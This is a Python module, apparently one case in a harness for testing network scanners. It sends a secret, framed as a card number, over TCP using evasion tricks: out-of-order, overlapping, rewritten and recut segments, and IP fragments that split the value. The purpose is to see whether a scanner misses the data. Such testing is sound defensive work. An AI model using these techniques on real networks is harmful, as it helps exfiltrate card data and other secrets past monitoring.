"""TCP without the kernel's: segments in an order and with bytes that no kernel would send.

`way`: `out_of_order` (second half first), `overlap` (other bytes where some have arrived, the
rest behind them), `rewritten` (the first half sent again with other bytes, so that a scanner
forgets it), `recut` (sent again in other pieces), `fragments` (each segment as IP fragments).
"""

from __future__ import annotations

from attacks.stack import Connection
from attacks.target import Target

HEADER = 20  # of TCP, without options
FILLER = b"the goods have left the harbour with a delay of some days as the port reported. "


def main(target: Target) -> None:
    """Open a connection and send the value that way."""
    head, value = b"order 17, card ", target.secret
    data = head + value + b", thanks\n"
    at, half = len(head), len(head) + len(value) // 2
    with Connection(target) as out:
        match target.args["way"]:
            case "out_of_order":
                out.send(half, data[half:])
                out.send(0, data[:half])
            case "overlap":
                out.send(0, data[:half])
                out.send(half - 4, b"...." + data[half:])
            case "rewritten":
                out.send(0, data[:half])
                out.send(0, (FILLER * 2)[:half])
                out.send(half, data[half:])
            case "recut":
                out.send(0, data[: at + 6])
                out.send(at + 3, data[at + 3 : at + 10])
                out.send(0, data[: at + 2])
                out.send(at + 8, data[at + 8 :])
            case "fragments":
                out.send(0, data, cut=[HEADER + 12, 16])  # the second cut is inside the value
        out.finish(len(data))
